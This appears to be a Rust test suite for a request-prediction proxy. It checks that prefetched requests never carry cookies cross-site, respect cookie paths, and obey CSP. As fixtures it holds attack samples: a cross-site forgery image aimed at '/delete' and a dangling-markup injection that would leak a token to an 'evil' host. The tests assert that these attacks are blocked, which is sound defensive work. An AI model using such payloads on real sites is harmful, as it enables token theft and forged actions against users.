//! Page bundles: the initiator of a predicted request decides its fields, and requests that browsers would
//! not make are not planned.
use longhaul_session::{EntryId, FetchId, Message, Method, PageId, Used, Want, Withdrawal};

use crate::{
    agent::{Agent, NOBODY, fetch_of},
    bundles::{Site, redirect, resource, setup},
    bundles_correctness::object,
    bundles_load::LoadReader,
    gateway::Gateway,
};

const LOGGED_IN: &[(&str, &str)] = &[("user-agent", "test"), ("cookie", "session=secret")];

/// A site that serves these paths as images.
async fn pictures(paths: &[&'static str]) -> Site {
    let site = Site::start([]).await;
    for path in paths {
        site.set(path, resource("image/png", *path).fresh());
    }
    site
}

fn cookies(site: &Site, path: &str) -> Vec<Option<String>> {
    let requests = site.requests(path).into_iter();
    requests
        .map(|fields| Some(fields.get("cookie")?.to_str().unwrap().to_owned()))
        .collect()
}

#[tokio::test]
async fn only_the_document_of_a_cross_site_frame_is_planned() {
    let (_gateway, mut agent) = setup().await;
    let site = pictures(&["/own.png", "/delete", "/evil.css", "/preload.png"]).await;
    let delete = site.url("a", "/delete");
    let evil = format!(
        "<img src={delete}><link rel=stylesheet href=/evil.css><iframe src={}></iframe>",
        site.url("a", "/nested")
    );
    site.set("/nested", resource("text/html", format!("<img src={delete}>")));
    site.set(
        "/evil",
        resource("text/html", evil).with("link", "</preload.png>; rel=preload; as=image"),
    );
    let page = format!(
        "<img src=/own.png><iframe src={}></iframe>",
        site.url("evil", "/evil")
    );
    site.set("/", resource("text/html", page));
    let load = LoadReader::whole(&mut agent, &site.url("a", "/"), LOGGED_IN).await;
    assert_eq!(load.urls(), ["/own.png", &site.url("evil", "/evil")]);
    assert_eq!(cookies(&site, "/own.png"), [Some("session=secret".to_owned())]);
    assert_eq!(cookies(&site, "/evil"), [None]);
    for path in ["/delete", "/evil.css", "/nested", "/preload.png"] {
        assert!(site.requests(path).is_empty(), "{path}");
    }
}

#[tokio::test]
async fn objects_of_a_same_site_frame_are_requested_by_the_frame() {
    let (_gateway, mut agent) = setup().await;
    let site = pictures(&["/1.png", "/2.png", "/3.png"]).await;
    let of_page = |path: &str| site.url("a", path);
    site.set(
        "/frame",
        resource("text/html", format!("<img src={}>", of_page("/1.png"))),
    );
    site.set("/boxed", resource("text/html", "<img src=/2.png>"));
    site.set(
        "/hidden",
        resource("text/html", "<img src=/3.png>").with("x-frame-options", "DENY"),
    );
    let page = format!(
        "<iframe src={}></iframe><iframe sandbox=allow-scripts src=/boxed></iframe><iframe src=/hidden></iframe>",
        site.url("sub.a", "/frame")
    );
    site.set("/", resource("text/html", page));
    let load = LoadReader::whole(&mut agent, &of_page("/"), LOGGED_IN).await;
    let mut urls = load.urls();
    urls.sort();
    assert_eq!(
        urls,
        [
            "/1.png",
            "/2.png",
            "/boxed",
            "/hidden",
            &site.url("sub.a", "/frame")
        ]
    );
    let image = &site.requests("/1.png")[0];
    assert_eq!(image["referer"].to_str().unwrap(), site.url("sub.a", "/"));
    assert_eq!(
        image["cookie"], "session=secret",
        "the request goes to the page's own host"
    );
    let boxed = &site.requests("/2.png")[0];
    assert!(
        !boxed.contains_key("cookie") && !boxed.contains_key("referer"),
        "{boxed:?}"
    );
}

/// On plain http a request for the document of a frame looks like one for a page.
#[tokio::test]
async fn a_frame_requested_like_a_page_over_http_is_a_frame() {
    let (_gateway, mut agent) = setup().await;
    let site = pictures(&["/boxed.png", "/delete"]).await;
    site.set("/boxed", resource("text/html", "<img src=/boxed.png>"));
    site.set(
        "/evil",
        resource("text/html", format!("<img src={}>", site.url("a", "/delete"))),
    );
    let evil = site.url("evil", "/evil");
    let page = format!("<iframe sandbox=allow-scripts src=/boxed></iframe><iframe src={evil}></iframe>");
    site.set("/", resource("text/html", page));
    LoadReader::whole(&mut agent, &site.url("a", "/"), &[]).await;
    site.clear();
    LoadReader::whole(&mut agent, &site.url("a", "/boxed"), LOGGED_IN).await;
    assert!(
        site.requests("/boxed.png")
            .iter()
            .all(|request| !request.contains_key("cookie"))
    );
    let framed = fetch_of(agent.id(), Method::Get, &evil, LOGGED_IN);
    agent.send(Message::Fetch(framed)).await;
    let response = agent.answer().await.response(&agent.session).await;
    assert_eq!(response.status, 200);
    assert!(site.requests("/delete").is_empty());
}

#[tokio::test]
async fn targets_of_cross_site_redirects_get_no_cookies() {
    let (_gateway, mut agent) = setup().await;
    let site = pictures(&["/delete", "/new.png"]).await;
    site.set("/turn", redirect(302, &site.url("a", "/delete")));
    site.set("/old.png", redirect(302, "/new.png"));
    let page = format!("<img src={}><img src=/old.png>", site.url("evil", "/turn"));
    site.set("/", resource("text/html", page));
    LoadReader::whole(&mut agent, &site.url("a", "/"), LOGGED_IN).await;
    assert_eq!(cookies(&site, "/delete"), [None]);
    assert_eq!(cookies(&site, "/new.png"), [Some("session=secret".to_owned())]);
}

#[tokio::test]
async fn a_cookie_is_not_sent_outside_its_path() {
    let (_gateway, mut agent) = setup().await;
    let site = pictures(&["/~alice/own.png", "/~mallory/fresh.png"]).await;
    site.set(
        "/~mallory/log.png",
        resource("image/png", "log").with("cache-control", "no-store"),
    );
    site.set("/~mallory/frame", resource("text/html", "<p>"));
    let page = "<img src=own.png><img src=/~mallory/fresh.png><img src=/~mallory/log.png><iframe src=/~mallory/frame></iframe>";
    site.set("/~alice/", resource("text/html", page));
    let load = LoadReader::whole(&mut agent, &site.url("a", "/~alice/"), LOGGED_IN).await;
    assert_eq!(
        cookies(&site, "/~alice/own.png"),
        [Some("session=secret".to_owned())]
    );
    assert_eq!(cookies(&site, "/~mallory/fresh.png"), [None]);
    assert_eq!(load.body_of("/~mallory/fresh.png"), b"/~mallory/fresh.png");
    // A response that may differ with cookies is not pushed, and a document is not even fetched.
    assert_eq!(cookies(&site, "/~mallory/log.png"), [None]);
    let log = load.entry("/~mallory/log.png");
    assert_eq!(load.withdrawal(log), Some(Withdrawal::Private));
    assert!(site.requests("/~mallory/frame").is_empty());

    // The browser's request shows that the cookie applies to the whole host; from then on the prediction
    // includes it.
    let asked = object(&mut agent, load.page, &site.url("a", "/static/x.png"), LOGGED_IN);
    agent.send(Message::Fetch(asked)).await;
    agent.answer().await.response(&agent.session).await;
    site.clear();
    LoadReader::whole(&mut agent, &site.url("a", "/~alice/"), LOGGED_IN).await;
    assert_eq!(
        cookies(&site, "/~mallory/log.png"),
        [Some("session=secret".to_owned())]
    );
}

#[tokio::test]
async fn csp_prevents_fetches_of_injected_markup() {
    let (_gateway, mut agent) = setup().await;
    let site = pictures(&["/own.png", "/own.css"]).await;
    let log = site.url("evil", "/log?");
    let page = format!(
        "<img src=/own.png><link rel=stylesheet href=/own.css><p>injected: <img src='{log}<input value=TOKEN><b title=''>"
    );
    site.set(
        "/",
        resource("text/html", page.clone())
            .with("content-security-policy", "default-src 'none'; img-src 'self'"),
    );
    let load = LoadReader::whole(&mut agent, &site.url("a", "/"), LOGGED_IN).await;
    assert_eq!(load.urls(), ["/own.png"]);
    // Without a policy: a URL that spans lines and contains markup is rejected.
    site.set(
        "/lines",
        resource("text/html", page.replace("<input", "\n<input")),
    );
    let load = LoadReader::whole(&mut agent, &site.url("a", "/lines"), LOGGED_IN).await;
    assert_eq!(load.urls(), ["/own.png", "/own.css"]);
    let seen = site.seen.lock();
    assert!(seen.iter().all(|(path, _)| !path.contains("TOKEN")), "{seen:?}");
}

#[tokio::test]
async fn csp_applies_to_urls_of_style_sheets_and_redirects() {
    let (_gateway, mut agent) = setup().await;
    let site = pictures(&["/own.png", "/other.png"]).await;
    let other = site.url("b", "/other.png");
    let sheet = format!("p {{ background: url(/own.png) }} b {{ background: url({other}) }}");
    site.set("/s.css", resource("text/css", sheet).fresh());
    site.set("/turn.png", redirect(302, &other));
    site.set("/port.png", redirect(302, "http://a.test:6667/x"));
    site.set(
        "/",
        resource(
            "text/html",
            "<p><b><link rel=stylesheet href=/s.css><img src=/turn.png><img src=/port.png><img src=http://a.test:25/x>",
        )
        .with("content-security-policy", "img-src 'self'"),
    );
    let load = LoadReader::whole(&mut agent, &site.url("a", "/"), LOGGED_IN).await;
    let mut urls = load.urls();
    urls.sort();
    assert_eq!(urls, ["/own.png", "/port.png", "/s.css", "/turn.png"]);
    assert!(site.requests("/other.png").is_empty());
}

/// Requests of a page's frames are not learned as the page's, and objects learned from other devices are
/// fetched without cookies.
#[tokio::test]
async fn only_the_pages_own_requests_are_learned() {
    let gateway = Gateway::start().await;
    let mut agent = Agent::connect(&gateway).await;
    let site = pictures(&["/base.png", "/own.png", "/delete", "/bare", "/shared.png"]).await;
    site.set("/", resource("text/html", "<img src=/base.png> shared"));
    // Not cacheable, so that each request reaches the origin.
    let stale = resource("image/png", "shared").with("cache-control", "no-cache");
    site.set("/shared.png", stale);
    let page = site.url("a", "/");
    let evil = site.url("evil", "/frame");
    let load = LoadReader::whole(&mut agent, &page, LOGGED_IN).await;
    let cookie = ("cookie", "session=secret");
    for (path, fields) in [
        ("/delete", &[("referer", evil.as_str()), cookie][..]),
        // Without cookies: a document of this site in a frame of another site.
        ("/bare", &[("referer", page.as_str())]),
        ("/nobody", &[cookie, NOBODY]),
        ("/own.png", &[("referer", page.as_str()), cookie]),
    ] {
        let asked = object(&mut agent, load.page, &site.url("a", path), fields);
        agent.send(Message::Fetch(asked)).await;
        agent.answer().await.response(&agent.session).await;
    }
    agent.say(Message::Used(Used::new(load.page, 16, |_| true))).await;
    agent
        .say(Message::Want(Want {
            page: PageId::of(FetchId::new(0)),
            entry: EntryId::FIRST,
        }))
        .await;
    let mut urls = Vec::new();
    while urls.len() < 2 {
        // The result of a visit is stored after its end.
        urls = LoadReader::whole(&mut agent, &page, LOGGED_IN).await.urls();
    }
    urls.sort();
    assert_eq!(urls, ["/base.png", "/own.png"]);

    // The other device teaches without cookies; this device has cookies and does not send them for the
    // learned object.
    let mut other = Agent::connect(&gateway).await;
    let mut third = Agent::connect(&gateway).await;
    let plain = ("user-agent", "test");
    for _ in 0..1000 {
        // Bodies are stored, and visits learned, after they end.
        let load = LoadReader::whole(&mut other, &page, &[plain]).await;
        if !load.urls().contains(&"/shared.png".to_owned()) {
            let asked = object(
                &mut other,
                load.page,
                &site.url("a", "/shared.png"),
                &[plain, ("referer", &page), ("accept", "image/*")],
            );
            other.send(Message::Fetch(asked)).await;
            other.answer().await.response(&other.session).await;
        }
        other.say(Message::Used(Used::new(load.page, 16, |_| true))).await;
        other
            .say(Message::Want(Want {
                page: PageId::of(FetchId::new(0)),
                entry: EntryId::FIRST,
            }))
            .await;
        site.clear();
        let load = LoadReader::whole(&mut third, &page, LOGGED_IN).await;
        if load.urls().contains(&"/shared.png".to_owned()) {
            break;
        }
    }
    assert_eq!(cookies(&site, "/shared.png").first(), Some(&None));
}
